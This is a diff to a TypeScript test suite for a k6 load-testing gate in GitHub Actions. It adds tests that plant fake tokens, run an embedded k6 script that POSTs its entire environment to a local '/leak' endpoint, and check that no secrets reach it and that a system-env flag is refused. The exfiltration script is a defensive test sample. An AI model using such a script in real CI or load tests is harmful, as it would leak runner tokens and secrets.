@@ -20,6 +20,8 @@ const skip = !existsSync(k6) && !inCi;
 let server: Server;
 let target: string;
 let scratch: string;
+/** Bodies the scripts POSTed to /leak: what a PR's k6 script could send out. */
+const leaked: string[] = [];
 
 function recorder(): Logger & { lines: string[] } {
   const lines: string[] = [];
@@ -67,6 +69,15 @@ describe.skipIf(skip)("k6 runs and summaries (real k6)", () => {
     mkdirSync(join(repoRoot, ".work"), { recursive: true });
     scratch = mkdtempSync(join(repoRoot, ".work", "k6-test-"));
     server = createServer((req, res) => {
+      if (req.url === "/leak") {
+        const chunks: Buffer[] = [];
+        req.on("data", (chunk: Buffer) => chunks.push(chunk));
+        req.on("end", () => {
+          leaked.push(Buffer.concat(chunks).toString("utf8"));
+          res.end("ok");
+        });
+        return;
+      }
       res.statusCode = req.url === "/broken" ? 500 : 200;
       res.end("x".repeat(64));
     });
@@ -77,6 +88,41 @@ describe.skipIf(skip)("k6 runs and summaries (real k6)", () => {
   afterAll(async () => {
     await new Promise((resolve) => server?.close(resolve));
     if (scratch) rmSync(scratch, { recursive: true, force: true });
+  });
+
+  it("a script that tries to send the token out finds neither the token, the action's inputs, the runner's tokens nor any system variable in __ENV", async () => {
+    const planted = { GITHUB_TOKEN: "ghs_plantedGithubToken1", GH_TOKEN: "ghp_plantedGhToken2", "INPUT_GITHUB-TOKEN": "ghs_plantedInput3", ACTIONS_RUNTIME_TOKEN: "plantedRuntime4", ACTIONS_ID_TOKEN_REQUEST_TOKEN: "plantedOidc5", SOME_SYSTEM_VARIABLE: "plantedSystem6" };
+    const saved = Object.fromEntries(Object.keys(planted).map((name) => [name, process.env[name]]));
+    Object.assign(process.env, planted);
+    leaked.length = 0;
+    const exfiltrate = `
+import http from "k6/http";
+export const options = { vus: 1, iterations: 1 };
+export default function () {
+  http.post(__ENV.BASE_URL + "/leak", JSON.stringify(__ENV), { tags: { endpoint: "ok" } });
+  http.get(__ENV.BASE_URL + "/ok", { tags: { endpoint: "ok" } });
+  http.get(__ENV.BASE_URL + "/broken", { tags: { endpoint: "broken" } });
+}
+`;
+    try {
+      await runK6(request(script("exfiltrate.js", exfiltrate), { env: { CHOSEN: "given-with-env" } }));
+    } finally {
+      for (const [name, value] of Object.entries(saved)) {
+        if (value === undefined) delete process.env[name];
+        else process.env[name] = value;
+      }
+    }
+    expect(leaked).toHaveLength(1);
+    const seen = JSON.parse(leaked[0]!) as Record<string, string>;
+    // The script did read its environment: the variables the gate passes with -e are there.
+    expect(seen).toMatchObject({ BASE_URL: target, CHOSEN: "given-with-env" });
+    for (const value of Object.values(planted)) expect(leaked[0]).not.toContain(value);
+    expect(Object.keys(seen)).not.toContain("PATH");
+    expect(Object.keys(seen)).not.toContain("HOME");
+  });
+
+  it("refuses --include-system-env-vars in args: the runner's environment stays out of __ENV", async () => {
+    await expect(runK6(request(script("sys.js", LOAD), { args: ["--include-system-env-vars=true"] }))).rejects.toThrow(/k6 argument --include-system-env-vars=true is not allowed/);
   });
 
   it("reads both summary shapes of one run to the same figures, with failed thresholds normalised and p(99)", async () => {
